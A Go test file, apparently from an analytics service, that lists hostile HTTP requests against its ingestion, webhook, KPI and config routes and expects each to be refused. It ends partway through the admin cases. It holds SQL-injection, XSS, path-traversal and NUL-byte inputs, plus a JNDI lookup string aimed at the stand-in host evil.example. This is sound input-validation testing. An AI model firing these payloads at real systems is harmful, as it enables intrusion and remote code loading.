package devstack_test

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/uptakehq/uptake/infra/devstack"
	"github.com/uptakehq/uptake/infra/stacktest"
	"github.com/uptakehq/uptake/shared/erase"
	"github.com/uptakehq/uptake/shared/tenant"
	"github.com/uptakehq/uptake/shared/webhook"
)

// hostileCase is one bad request and the refusal it must get.
type hostileCase struct {
	name    string
	method  string
	path    string
	headers map[string]string
	body    []byte
	status  int
	// code is the error code of api.md's error shape; "" with 404 means
	// the router's own {"message":"Not Found"} (no such route).
	code string
}

// routerNotFound is API Gateway's answer for a route it does not have.
const routerNotFound = `{"message":"Not Found"}`

func withHeader(h map[string]string, k, v string) map[string]string {
	out := map[string]string{}
	for a, b := range h {
		out[a] = b
	}
	out[k] = v
	return out
}

func basicAuth(user string) map[string]string {
	return map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":")), "Content-Type": "application/json"}
}

// signGeneric signs a body for the survey and ticket webhooks.
func signGeneric(secret string, body []byte, at time.Time) map[string]string {
	return map[string]string{webhook.SignatureHeader: webhook.Sign(tenant.Secret(secret), body, at), "Content-Type": "application/json"}
}

// signTypeform signs a body as Typeform does.
func signTypeform(secret string, body []byte) map[string]string {
	m := hmac.New(sha256.New, []byte(secret))
	m.Write(body)
	return map[string]string{"Typeform-Signature": "sha256=" + base64.StdEncoding.EncodeToString(m.Sum(nil)), "Content-Type": "application/json"}
}

func nested(depth int, inner string) string {
	return strings.Repeat("[", depth) + inner + strings.Repeat("]", depth)
}

// hostileCatalogue is the table of bad requests over every route.
func hostileCatalogue(st *stacktest.Stack) []hostileCase {
	W, R, A := bearer(st.WriteKey), bearer(st.ReadKey), bearer(st.AdminKey)
	now := time.Now()
	future := now.Add(25 * time.Hour).UTC().Format(time.RFC3339)
	injections := map[string]string{
		"sql":       `' OR 1=1 --`,
		"script":    `<script>alert(1)</script>`,
		"jndi":      `${jndi:ldap://evil.example/a}`,
		"traversal": `../../etc/passwd`,
		"nul":       "demo\x00",
	}
	// A message with every required field but the event name, so it is
	// always rejected whatever its other (hostile) values.
	noEvent := func(userID, messageID string) string {
		b, _ := json.Marshal(map[string]any{"type": "track", "userId": userID, "messageId": messageID, "timestamp": "2026-10-01T10:00:00Z"})
		return string(b)
	}
	track := func(props string) string {
		return `{"type":"track","event":"Survey Responded","userId":"u","messageId":"hx","timestamp":"2026-10-01T10:00:00Z","properties":` + props + `}`
	}
	pad := strings.Repeat("x", 33*1024)
	var huge strings.Builder // 501 KB of valid messages
	huge.WriteString(`{"batch":[`)
	for i := range 40 {
		if i > 0 {
			huge.WriteString(",")
		}
		fmt.Fprintf(&huge, `{"type":"track","event":"E","userId":"u","messageId":"h%d","properties":{"pad":"%s"}}`, i, strings.Repeat("y", 13000))
	}
	huge.WriteString(`]}`)
	manyOnes := `{"batch":[` + strings.TrimSuffix(strings.Repeat("1,", 100000), ",") + `]}`
	manyEmpty := `{"batch":[` + strings.TrimSuffix(strings.Repeat("{},", 50000), ",") + `]}`

	var c []hostileCase
	add := func(name, method, path string, h map[string]string, body string, status int, code string) {
		c = append(c, hostileCase{name, method, path, h, []byte(body), status, code})
	}

	// --- POST /v1/batch ---
	b := "/v1/batch"
	good := `{"batch":[` + msg("never") + `]}`
	add("batch/malformed JSON", "POST", b, W, `{"batch":[`, 400, "invalid_json")
	add("batch/truncated in a string", "POST", b, W, `{"batch":[{"type":"track","event":"E`, 400, "invalid_json")
	add("batch/trailing garbage", "POST", b, W, good+` }}`, 400, "invalid_json")
	add("batch/single quotes", "POST", b, W, `{'batch':[]}`, 400, "invalid_json")
	add("batch/batch is a string", "POST", b, W, `{"batch":"x"}`, 400, "invalid_request")
	add("batch/batch is null", "POST", b, W, `{"batch":null}`, 400, "invalid_request")
	add("batch/batch is an object", "POST", b, W, `{"batch":{"0":{}}}`, 400, "invalid_request")
	add("batch/top-level number", "POST", b, W, `42`, 400, "invalid_request")
	add("batch/top-level null", "POST", b, W, `null`, 400, "invalid_request")
	add("batch/top-level string", "POST", b, W, `"batch"`, 400, "invalid_request")
	add("batch/empty batch", "POST", b, W, `{"batch":[]}`, 400, "invalid_request")
	add("batch/empty body", "POST", b, W, ``, 400, "invalid_json")
	add("batch/whitespace body", "POST", b, W, " \n\t ", 400, "invalid_json")
	add("batch/invalid UTF-8", "POST", b, W, "{\"batch\":[{\"type\":\"track\",\"event\":\"E\xff\xfe\",\"userId\":\"u\",\"messageId\":\"utf\"}]}", 400, "invalid_json")
	add("batch/10,000-level nesting", "POST", b, W, `{"batch":`+nested(10000, "")+`}`, 400, "invalid_json")
	add("batch/100,000-level nesting", "POST", b, W, `{"batch":`+nested(100000, "")+`}`, 400, "invalid_json")
	add("batch/9,000-deep arrays as messages", "POST", b, W, `{"batch":[`+nested(9000, "1")+`]}`, 400, "invalid_request")
	add("batch/10,000-level nesting in properties", "POST", b, W, `{"batch":[`+track(`{"p":`+nested(10000, "")+`}`)+`]}`, 400, "invalid_json")
	add("batch/huge array of numbers", "POST", b, W, manyOnes, 400, "invalid_request")
	add("batch/huge array of empty objects", "POST", b, W, manyEmpty, 400, "invalid_request")
	add("batch/over 500 KB", "POST", b, W, huge.String(), 413, "payload_too_large")
	add("batch/one message over 32 KB", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":"u","messageId":"big","properties":{"p":"`+pad+`"}}]}`, 413, "payload_too_large")
	add("batch/content type XML", "POST", b, withHeader(W, "Content-Type", "application/xml"), good, 415, "unsupported_media_type")
	add("batch/content type form", "POST", b, withHeader(W, "Content-Type", "application/x-www-form-urlencoded"), good, 415, "unsupported_media_type")
	add("batch/content type multipart", "POST", b, withHeader(W, "Content-Type", "multipart/form-data; boundary=x"), good, 415, "unsupported_media_type")
	add("batch/no key", "POST", b, map[string]string{"Content-Type": "application/json"}, good, 401, "unauthorized")
	add("batch/unknown key", "POST", b, bearer("nope"), good, 401, "unauthorized")
	add("batch/empty bearer", "POST", b, map[string]string{"Authorization": "Bearer "}, good, 401, "unauthorized")
	add("batch/basic not base64", "POST", b, map[string]string{"Authorization": "Basic %%%"}, good, 401, "unauthorized")
	add("batch/basic unknown key", "POST", b, basicAuth("nope"), good, 401, "unauthorized")
	add("batch/key in another scheme", "POST", b, map[string]string{"Authorization": "Token " + st.WriteKey}, good, 401, "unauthorized")
	add("batch/injection as key", "POST", b, bearer(`' OR 1=1 --`), good, 401, "unauthorized")
	add("batch/read key", "POST", b, R, good, 403, "forbidden")
	add("batch/admin key", "POST", b, A, good, 403, "forbidden")
	add("batch/read key as basic", "POST", b, basicAuth(st.ReadKey), good, 403, "forbidden")
	add("batch/userId is an object", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":{"a":1},"messageId":"x"}]}`, 400, "invalid_request")
	add("batch/type is a number", "POST", b, W, `{"batch":[{"type":5,"event":"E","userId":"u","messageId":"x"}]}`, 400, "invalid_request")
	add("batch/unknown type", "POST", b, W, `{"batch":[{"type":"click","userId":"u","messageId":"x"}]}`, 400, "invalid_request")
	add("batch/timestamp 0000-00-00", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":"u","messageId":"x","timestamp":"0000-00-00"}]}`, 400, "invalid_request")
	add("batch/timestamp 2026-02-30", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":"u","messageId":"x","timestamp":"2026-02-30T10:00:00Z"}]}`, 400, "invalid_request")
	add("batch/timestamp a number", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":"u","messageId":"x","timestamp":1e400}]}`, 400, "invalid_request")
	add("batch/timestamp 25 h ahead", "POST", b, W, `{"batch":[{"type":"track","event":"E","userId":"u","messageId":"x","timestamp":"`+future+`"}]}`, 400, "invalid_request")
	add("batch/NPS score 11", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":11}`)+`]}`, 400, "invalid_request")
	add("batch/NPS score -1", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":-1}`)+`]}`, 400, "invalid_request")
	add("batch/NPS score 1e400", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":1e400}`)+`]}`, 400, "invalid_request")
	add("batch/NPS score NaN literal", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":NaN}`)+`]}`, 400, "invalid_json")
	add("batch/NPS score Infinity literal", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":Infinity}`)+`]}`, 400, "invalid_json")
	add("batch/NPS score \"Infinity\"", "POST", b, W, `{"batch":[`+track(`{"survey_type":"nps","score":"Infinity"}`)+`]}`, 400, "invalid_request")
	for _, k := range []string{"sql", "script", "jndi", "traversal", "nul"} {
		add("batch/"+k+" in ids of a rejected message", "POST", b, W, `{"batch":[`+noEvent(injections[k], injections[k])+`]}`, 400, "invalid_request")
	}

	// --- single-message routes ---
	for _, typ := range []string{"track", "identify", "group", "page", "screen", "alias"} {
		p := "/v1/" + typ
		one := `{"userId":"u","messageId":"never-` + typ + `","event":"E","groupId":"g","previousId":"p","name":"n"}`
		add(typ+"/malformed JSON", "POST", p, W, `{"userId":`, 400, "invalid_json")
		add(typ+"/empty body", "POST", p, W, ``, 400, "invalid_json")
		add(typ+"/over 32 KB", "POST", p, W, `{"userId":"u","messageId":"big","event":"E","properties":{"p":"`+pad+`"}}`, 413, "payload_too_large")
		add(typ+"/missing messageId and userId", "POST", p, W, `{"event":"E"}`, 400, "invalid_request")
		add(typ+"/a batch sent to it", "POST", p, W, `{"batch":[`+msg("b-"+typ)+`]}`, 400, "invalid_request")
		add(typ+"/read key", "POST", p, R, one, 403, "forbidden")
		add(typ+"/no key", "POST", p, nil, one, 401, "unauthorized")
	}
	add("track/type does not match the route", "POST", "/v1/track", W, `{"type":"page","userId":"u","messageId":"x"}`, 400, "invalid_request")
	add("track/array body", "POST", "/v1/track", W, `[`+msg("arr")+`]`, 400, "invalid_request")
	add("track/invalid UTF-8", "POST", "/v1/track", W, "{\"event\":\"E\xc3\x28\",\"userId\":\"u\",\"messageId\":\"x\"}", 400, "invalid_json")
	add("track/properties a string", "POST", "/v1/track", W, `{"event":"Survey Responded","userId":"u","messageId":"x","properties":"nps=11"}`, 400, "invalid_request")
	// A CSAT score outside the tenant's scale is the nightly run's to
	// check (event/parse.go); a score that is no number is refused here.
	add("track/CSAT score a boolean", "POST", "/v1/track", W, `{"event":"Survey Responded","userId":"u","messageId":"x","properties":{"survey_type":"csat","score":true}}`, 400, "invalid_request")
	add("identify/traits an array", "POST", "/v1/identify", W, `{"userId":"u","messageId":"x","traits":[1,2]}`, 400, "invalid_request")
	add("group/groupId an object", "POST", "/v1/group", W, `{"userId":"u","messageId":"x","groupId":{"id":1}}`, 400, "invalid_request")
	add("alias/previousId missing", "POST", "/v1/alias", W, `{"userId":"u","messageId":"x"}`, 400, "invalid_request")
	add("page/content type text/html", "POST", "/v1/page", withHeader(W, "Content-Type", "text/html"), `{"userId":"u","messageId":"x"}`, 415, "unsupported_media_type")

	// --- POST /v1/webhooks/{provider}/{tenant} ---
	sv := func(body string) hostileCase {
		return hostileCase{method: "POST", path: "/v1/webhooks/survey/demo", headers: signGeneric(st.WebhookSecret, []byte(body), now), body: []byte(body)}
	}
	tk := func(body string) hostileCase {
		return hostileCase{method: "POST", path: "/v1/webhooks/ticket/demo", headers: signGeneric(st.WebhookSecret, []byte(body), now), body: []byte(body)}
	}
	addc := func(name string, hc hostileCase, status int, code string) {
		hc.name, hc.status, hc.code = name, status, code
		c = append(c, hc)
	}
	survey := `{"id":"hr1","survey_id":"q4","type":"nps","score":9,"respondent":"u1","submitted_at":"2026-10-02T10:00:00Z"}`
	surveyWith := func(field, raw string) string {
		var m map[string]json.RawMessage
		json.Unmarshal([]byte(survey), &m)
		m[field] = json.RawMessage(raw)
		out, _ := json.Marshal(m)
		return string(out)
	}
	signedFor := func(path string) hostileCase {
		return hostileCase{method: "POST", path: path, headers: signGeneric(st.WebhookSecret, []byte(survey), now), body: []byte(survey)}
	}
	addc("webhook/unknown tenant", signedFor("/v1/webhooks/survey/nobody"), 401, "unauthorized")
	addc("webhook/tenant ..%2F..%2Fetc", signedFor("/v1/webhooks/survey/..%2F..%2Fetc"), 401, "unauthorized")
	addc("webhook/tenant demo%00", signedFor("/v1/webhooks/survey/demo%00"), 401, "unauthorized")
	addc("webhook/tenant SQL injection", signedFor("/v1/webhooks/survey/%27%20OR%201%3D1%20--"), 401, "unauthorized")
	addc("webhook/tenant <script>", signedFor("/v1/webhooks/survey/%3Cscript%3Ealert(1)%3C%2Fscript%3E"), 401, "unauthorized")
	addc("webhook/tenant ${jndi}", signedFor("/v1/webhooks/survey/$%7Bjndi:ldap:%2F%2Fevil%2Fa%7D"), 401, "unauthorized")
	addc("webhook/tenant DEMO (case)", signedFor("/v1/webhooks/survey/DEMO"), 401, "unauthorized")
	addc("webhook/unknown provider", signedFor("/v1/webhooks/acme/demo"), 404, "not_found")
	addc("webhook/provider ..%2F..", signedFor("/v1/webhooks/..%2F..%2Fadmin/demo"), 404, "not_found")
	addc("webhook/provider survey%00", signedFor("/v1/webhooks/survey%00/demo"), 404, "not_found")
	addc("webhook/provider injection", signedFor("/v1/webhooks/%27%20OR%201%3D1/demo"), 404, "not_found")
	add("webhook/survey no signature", "POST", "/v1/webhooks/survey/demo", nil, survey, 401, "unauthorized")
	add("webhook/survey API key instead of signature", "POST", "/v1/webhooks/survey/demo", W, survey, 401, "unauthorized")
	add("webhook/survey garbled signature", "POST", "/v1/webhooks/survey/demo", map[string]string{webhook.SignatureHeader: "t=abc,v1=zz"}, survey, 401, "unauthorized")
	addc("webhook/survey wrong secret", hostileCase{method: "POST", path: "/v1/webhooks/survey/demo", headers: signGeneric("not-the-secret", []byte(survey), now), body: []byte(survey)}, 401, "unauthorized")
	addc("webhook/survey stale signature", hostileCase{method: "POST", path: "/v1/webhooks/survey/demo", headers: signGeneric(st.WebhookSecret, []byte(survey), now.Add(-10*time.Minute)), body: []byte(survey)}, 401, "unauthorized")
	addc("webhook/survey signature from the future", hostileCase{method: "POST", path: "/v1/webhooks/survey/demo", headers: signGeneric(st.WebhookSecret, []byte(survey), now.Add(10*time.Minute)), body: []byte(survey)}, 401, "unauthorized")
	addc("webhook/survey signed body then changed", hostileCase{method: "POST", path: "/v1/webhooks/survey/demo", headers: signGeneric(st.WebhookSecret, []byte(survey), now), body: []byte(surveyWith("score", "10"))}, 401, "unauthorized")
	addc("webhook/survey malformed JSON", sv(`{"id":"hr1",`), 400, "invalid_json")
	addc("webhook/survey empty body", sv(``), 400, "invalid_json")
	addc("webhook/survey array body", sv(`[`+survey+`]`), 400, "invalid_json")
	addc("webhook/survey id a number", sv(surveyWith("id", "12")), 400, "invalid_json")
	addc("webhook/survey unknown field", sv(surveyWith("extra", "1")), 400, "invalid_json")
	addc("webhook/survey 10,000-level nesting", sv(surveyWith("comment", nested(10000, ""))), 400, "invalid_json")
	addc("webhook/survey missing id", sv(surveyWith("id", `""`)), 400, "invalid_request")
	addc("webhook/survey NPS score 11", sv(surveyWith("score", "11")), 400, "invalid_request")
	addc("webhook/survey NPS score -3", sv(surveyWith("score", "-3")), 400, "invalid_request")
	addc("webhook/survey score \"NaN\"", sv(surveyWith("score", `"NaN"`)), 400, "invalid_request")
	addc("webhook/survey score 1e400", sv(strings.Replace(survey, `"score":9`, `"score":1e400`, 1)), 400, "invalid_request")
	addc("webhook/survey score an object", sv(surveyWith("score", `{"v":9}`)), 400, "invalid_request")
	addc("webhook/survey submitted_at 0000-00-00", sv(surveyWith("submitted_at", `"0000-00-00"`)), 400, "invalid_request")
	addc("webhook/survey submitted_at 2026-02-30", sv(surveyWith("submitted_at", `"2026-02-30T10:00:00Z"`)), 400, "invalid_request")
	addc("webhook/survey unknown type", sv(surveyWith("type", `"<script>"`)), 400, "invalid_request")
	addc("webhook/survey invalid UTF-8", sv(strings.Replace(survey, `"respondent":"u1"`, "\"respondent\":\"u\xff1\"", 1)), 400, "invalid_json")
	addc("webhook/survey over 32 KB", sv(surveyWith("comment", `"`+pad+`"`)), 413, "payload_too_large")
	addc("webhook/ticket unknown status", tk(`{"id":"T9","status":"lost","created_at":"2026-10-01T09:00:00Z","updated_at":"2026-10-01T09:00:00Z"}`), 400, "invalid_request")
	addc("webhook/ticket created 0000-00-00", tk(`{"id":"T9","status":"open","created_at":"0000-00-00","updated_at":"2026-10-01T09:00:00Z"}`), 400, "invalid_request")
	addc("webhook/ticket updated 2026-02-30", tk(`{"id":"T9","status":"open","created_at":"2026-10-01T09:00:00Z","updated_at":"2026-02-30T09:00:00Z"}`), 400, "invalid_request")
	addc("webhook/ticket updated before created", tk(`{"id":"T9","status":"open","created_at":"2026-10-02T09:00:00Z","updated_at":"2026-10-01T09:00:00Z"}`), 400, "invalid_request")
	addc("webhook/ticket id over 200 chars", tk(`{"id":"`+strings.Repeat("T", 201)+`","status":"open","created_at":"2026-10-01T09:00:00Z","updated_at":"2026-10-01T09:00:00Z"}`), 400, "invalid_request")
	addc("webhook/ticket tags not an array", tk(`{"id":"T9","status":"open","tags":"vip","created_at":"2026-10-01T09:00:00Z","updated_at":"2026-10-01T09:00:00Z"}`), 400, "invalid_json")
	addc("webhook/ticket truncated", tk(`{"id":"T9","status":"op`), 400, "invalid_json")
	add("webhook/ticket no signature", "POST", "/v1/webhooks/ticket/demo", nil, `{"id":"T9"}`, 401, "unauthorized")
	tfBody := []byte(`{"event_id":"x","event_type":"form_response"`)
	add("webhook/typeform over 1 MB", "POST", "/v1/webhooks/typeform/demo", signTypeform(st.WebhookSecret, nil), `{"p":"`+strings.Repeat("z", 1<<20)+`"}`, 413, "payload_too_large")
	add("webhook/typeform no signature", "POST", "/v1/webhooks/typeform/demo", nil, `{}`, 401, "unauthorized")
	add("webhook/typeform wrong signature", "POST", "/v1/webhooks/typeform/demo", signTypeform("wrong", []byte(`{}`)), `{}`, 401, "unauthorized")
	add("webhook/typeform signature not base64", "POST", "/v1/webhooks/typeform/demo", map[string]string{"Typeform-Signature": "sha256=%%%"}, `{}`, 401, "unauthorized")
	add("webhook/typeform signed malformed JSON", "POST", "/v1/webhooks/typeform/demo", signTypeform(st.WebhookSecret, tfBody), string(tfBody), 400, "invalid_json")
	add("webhook/typeform signed empty body", "POST", "/v1/webhooks/typeform/demo", signTypeform(st.WebhookSecret, nil), ``, 400, "invalid_json")
	add("webhook/typeform unknown tenant", "POST", "/v1/webhooks/typeform/nobody", signTypeform(st.WebhookSecret, []byte(`{}`)), `{}`, 401, "unauthorized")
	for _, p := range []string{"surveymonkey", "delighted", "zendesk", "freshdesk", "intercom", "helpscout"} {
		add("webhook/"+p+" no signature", "POST", "/v1/webhooks/"+p+"/demo", map[string]string{"Content-Type": "application/json"}, `{}`, 401, "unauthorized")
	}
	add("webhook/freshdesk wrong token", "POST", "/v1/webhooks/freshdesk/demo", map[string]string{webhook.FreshdeskTokenHeader: "wrong"}, `{}`, 401, "unauthorized")
	add("webhook/freshdesk token in query, wrong", "POST", "/v1/webhooks/freshdesk/demo?token=%27%20OR%201%3D1", nil, `{}`, 401, "unauthorized")
	add("webhook/freshdesk right token, malformed JSON", "POST", "/v1/webhooks/freshdesk/demo", map[string]string{webhook.FreshdeskTokenHeader: st.WebhookSecret}, `{"ticket":`, 400, "invalid_json")
	add("webhook/HEAD unknown provider", "HEAD", "/v1/webhooks/acme/demo", nil, ``, 404, "")

	// --- GET /v1/kpis/{id}, /v1/kpis/{id}.csv, /v1/kpis ---
	rng := "from=2026-10-01&to=2026-10-02"
	kp := func(id, q string) string { return "/v1/kpis/" + id + "?" + q }
	add("kpi/unknown id", "GET", kp("nope", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id upper case", "GET", kp("DAU", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id ..%2F..%2Fetc%2Fpasswd", "GET", kp("..%2F..%2Fetc%2Fpasswd", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id %2E%2E", "GET", kp("%2E%2E", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id dau%00", "GET", kp("dau%00", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id SQL injection", "GET", kp("dau%27%20OR%201%3D1%20--", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id <script>", "GET", kp("%3Cscript%3Ealert(1)%3C%2Fscript%3E", rng), R, ``, 400, "unknown_kpi")
	add("kpi/id ${jndi}", "GET", kp("$%7Bjndi:ldap:%2F%2Fevil%2Fa%7D", rng), R, ``, 400, "unknown_kpi")
	add("kpi/from after to", "GET", kp("dau", "from=2026-10-02&to=2026-10-01"), R, ``, 400, "invalid_date")
	add("kpi/from 0000-00-00", "GET", kp("dau", "from=0000-00-00&to=2026-10-01"), R, ``, 400, "invalid_date")
	add("kpi/to 2026-02-30", "GET", kp("dau", "from=2026-02-01&to=2026-02-30"), R, ``, 400, "invalid_date")
	add("kpi/100-year range", "GET", kp("dau", "from=2000-01-01&to=2099-12-31"), R, ``, 400, "invalid_date")
	add("kpi/year 10000", "GET", kp("dau", "from=2026-10-01&to=10000-01-01"), R, ``, 400, "invalid_date")
	add("kpi/from missing", "GET", kp("dau", "to=2026-10-01"), R, ``, 400, "invalid_date")
	add("kpi/from empty", "GET", kp("dau", "from=&to=2026-10-01"), R, ``, 400, "invalid_date")
	add("kpi/from a timestamp", "GET", kp("dau", "from=2026-10-01T00:00:00Z&to=2026-10-02"), R, ``, 400, "invalid_date")
	add("kpi/from not padded", "GET", kp("dau", "from=2026-1-1&to=2026-10-02"), R, ``, 400, "invalid_date")
	add("kpi/from NaN", "GET", kp("dau", "from=NaN&to=2026-10-02"), R, ``, 400, "invalid_date")
	add("kpi/from SQL injection", "GET", kp("dau", "from=%27%20OR%201%3D1%20--&to=2026-10-02"), R, ``, 400, "invalid_date")
	add("kpi/from given twice", "GET", kp("dau", rng+"&from=2026-09-01"), R, ``, 400, "invalid_request")
	add("kpi/interval hour", "GET", kp("dau", rng+"&interval=hour"), R, ``, 400, "invalid_request")
	add("kpi/interval <script>", "GET", kp("dau", rng+"&interval=%3Cscript%3E"), R, ``, 400, "invalid_request")
	add("kpi/unknown parameter", "GET", kp("dau", rng+"&x=1"), R, ``, 400, "invalid_request")
	add("kpi/breakdown not offered", "GET", kp("sessions", rng+"&breakdown=plan"), R, ``, 400, "invalid_request")
	add("kpi/breakdown SQL injection", "GET", kp("sessions", rng+"&breakdown=%27%20OR%201%3D1"), R, ``, 400, "invalid_request")
	add("kpi/breakdown given twice", "GET", kp("dau", rng+"&breakdown=plan&breakdown=region"), R, ``, 400, "invalid_request")
	add("kpi/filter without colon", "GET", kp("sessions", rng+"&filter=source"), R, ``, 400, "invalid_request")
	add("kpi/filter without dimension", "GET", kp("dau", rng+"&filter=:pro"), R, ``, 400, "invalid_request")
	add("kpi/two own filters", "GET", kp("sessions", rng+"&filter=source:organic&filter=device:mobile"), R, ``, 400, "invalid_request")
	add("kpi/filter on a non-segment KPI", "GET", kp("onboarding_funnel", rng+"&filter=plan:pro"), R, ``, 400, "invalid_request")
	add("kpi/param of another KPI", "GET", kp("dau", rng+"&feature=x"), R, ``, 400, "invalid_request")
	add("kpi/roi completion 150", "GET", kp("roi_projection", rng+"&completion_now=150"), R, ``, 400, "invalid_request")
	add("kpi/roi negative customers", "GET", kp("roi_projection", rng+"&new_customers=-1"), R, ``, 400, "invalid_request")
	add("kpi/roi NaN", "GET", kp("roi_projection", rng+"&contract_value=NaN"), R, ``, 400, "invalid_request")
	add("kpi/roi Infinity", "GET", kp("roi_projection", rng+"&contract_value=Infinity"), R, ``, 400, "invalid_request")
	add("kpi/roi 1e400", "GET", kp("roi_projection", rng+"&contract_value=1e400"), R, ``, 400, "invalid_request")
	add("kpi/roi not a number", "GET", kp("roi_projection", rng+"&new_customers=%3Cscript%3E"), R, ``, 400, "invalid_request")
	add("kpi/flow change_date 0000-00-00", "GET", kp("flow_comparison", rng+"&change_date=0000-00-00"), R, ``, 400, "invalid_request")
	add("kpi/flow change_date 2026-02-30", "GET", kp("flow_comparison", rng+"&change_date=2026-02-30"), R, ``, 400, "invalid_request")
	add("kpi/no key", "GET", kp("dau", rng), nil, ``, 401, "unauthorized")
	add("kpi/unknown key", "GET", kp("dau", rng), bearer("nope"), ``, 401, "unauthorized")
	add("kpi/write key", "GET", kp("dau", rng), W, ``, 403, "forbidden")
	add("kpi/admin key", "GET", kp("dau", rng), A, ``, 403, "forbidden")
	add("kpi/write key as basic", "GET", kp("dau", rng), basicAuth(st.WriteKey), ``, 403, "forbidden")
	add("csv/unknown id", "GET", kp("nope.csv", rng), R, ``, 400, "unknown_kpi")
	add("csv/empty id", "GET", kp(".csv", rng), R, ``, 400, "unknown_kpi")
	add("csv/traversal id", "GET", kp("..%2Fdau.csv", rng), R, ``, 400, "unknown_kpi")
	add("csv/from after to", "GET", kp("dau.csv", "from=2026-10-02&to=2026-10-01"), R, ``, 400, "invalid_date")
	add("csv/write key", "GET", kp("dau.csv", rng), W, ``, 403, "forbidden")
	add("kpis/to missing", "GET", "/v1/kpis?from=2026-10-01", R, ``, 400, "invalid_date")
	add("kpis/from after to", "GET", "/v1/kpis?from=2026-10-02&to=2026-10-01", R, ``, 400, "invalid_date")
	add("kpis/100-year range", "GET", "/v1/kpis?from=2000-01-01&to=2099-12-31", R, ``, 400, "invalid_date")
	add("kpis/date 2026-02-30", "GET", "/v1/kpis?from=2026-02-01&to=2026-02-30", R, ``, 400, "invalid_date")
	add("kpis/breakdown", "GET", "/v1/kpis?"+rng+"&breakdown=plan", R, ``, 400, "invalid_request")
	add("kpis/filter injection", "GET", "/v1/kpis?"+rng+"&filter=plan:%27%20OR%201%3D1", R, ``, 400, "invalid_request")
	add("kpis/no key", "GET", "/v1/kpis?"+rng, nil, ``, 401, "unauthorized")
	add("kpis/write key", "GET", "/v1/kpis?"+rng, W, ``, 403, "forbidden")
	add("openapi/POST", "POST", "/v1/openapi.json", nil, `{}`, 404, "")
	add("openapi/under kpis without key", "GET", "/v1/kpis/openapi.json", nil, ``, 401, "unauthorized")

	// --- GET/PUT /v1/config ---
	add("config/GET no key", "GET", "/v1/config", nil, ``, 401, "unauthorized")
	add("config/GET read key", "GET", "/v1/config", R, ``, 403, "forbidden")
	add("config/GET write key", "GET", "/v1/config", W, ``, 403, "forbidden")
	add("config/PUT no key", "PUT", "/v1/config", nil, `{"timezone":"UTC"}`, 401, "unauthorized")
	add("config/PUT read key", "PUT", "/v1/config", R, `{"timezone":"UTC"}`, 403, "forbidden")
	add("config/PUT malformed", "PUT", "/v1/config", A, `{"timezone":`, 400, "invalid_json")
	add("config/PUT empty", "PUT", "/v1/config", A, ``, 400, "invalid_json")
	add("config/PUT array", "PUT", "/v1/config", A, `[]`, 400, "invalid_request")
	add("config/PUT null", "PUT", "/v1/config", A, `null`, 400, "invalid_request")
	add("config/PUT trailing data", "PUT", "/v1/config", A, `{} {}`, 400, "invalid_json")
	add("config/PUT 10,000-level nesting", "PUT", "/v1/config", A, `{"active_events":`+nested(10000, "")+`}`, 400, "invalid_json")
	add("config/PUT unknown field", "PUT", "/v1/config", A, `{"tenant":"other"}`, 400, "invalid_request")
	add("config/PUT timezone Mars", "PUT", "/v1/config", A, `{"timezone":"Mars/Olympus"}`, 400, "invalid_request")
	add("config/PUT timezone Local", "PUT", "/v1/config", A, `{"timezone":"Local"}`, 400, "invalid_request")
	add("config/PUT timezone traversal", "PUT", "/v1/config", A, `{"timezone":"../../../etc/passwd"}`, 400, "invalid_request")
	add("config/PUT timezone injection", "PUT", "/v1/config", A, `{"timezone":"' OR 1=1 --"}`, 400, "invalid_request")
	add("config/PUT timezone a number", "PUT", "/v1/config", A, `{"timezone":1}`, 400, "invalid_request")
	add("config/PUT session timeout 0", "PUT", "/v1/config", A, `{"session_timeout_minutes":0}`, 400, "invalid_request")
	add("config/PUT session timeout 1441", "PUT", "/v1/config", A, `{"session_timeout_minutes":1441}`, 400, "invalid_request")
	add("config/PUT session timeout 1e400", "PUT", "/v1/config", A, `{"session_timeout_minutes":1e400}`, 400, "invalid_request")
	add("config/PUT session timeout 1.5", "PUT", "/v1/config", A, `{"session_timeout_minutes":1.5}`, 400, "invalid_request")
	add("config/PUT session timeout a string", "PUT", "/v1/config", A, `{"session_timeout_minutes":"30"}`, 400, "invalid_request")
	add("config/PUT conversion event empty", "PUT", "/v1/config", A, `{"conversion_event":""}`, 400, "invalid_request")
	add("config/PUT CSAT scale inverted", "PUT", "/v1/config", A, `{"csat_scale_min":5,"csat_scale_max":1}`, 400, "invalid_request")
	add("config/PUT CES scale inverted", "PUT", "/v1/config", A, `{"ces_scale_min":7,"ces_scale_max":7}`, 400, "invalid_request")
	add("config/PUT alert URL ftp", "PUT", "/v1/config", A, `{"alert_url":"ftp://example.com"}`, 400, "invalid_request")
	add("config/PUT alert URL javascript", "PUT", "/v1/config", A, `{"alert_url":"javascript:alert(1)"}`, 400, "invalid_request")
	add("config/PUT active events numbers", "PUT", "/v1/config", A, `{"active_events":[1,2,3]}`, 400, "invalid_request")
	add("config/PUT invalid UTF-8", "PUT", "/v1/config", A, "{\"conversion_event\":\"Signed\xffUp\"}", 400, "invalid_json")

	// --- POST /v1/admin/aggregate ---
	ag := "/v1/admin/aggregate"
	add("aggregate/no key", "POST", ag, nil, `{"from":"2026-10-01","to":"2026-10-01"}`, 401, "unauthorized")
	add("aggregate/read key", "POST", ag, R, `{"from":"2026-10-01","to":"2026-10-01"}`, 403, "forbidden")
	add("aggregate/write key", "POST", ag, W, `{"from":"2026-10-01","to":"2026-10-01"}`, 403, "forbidden")
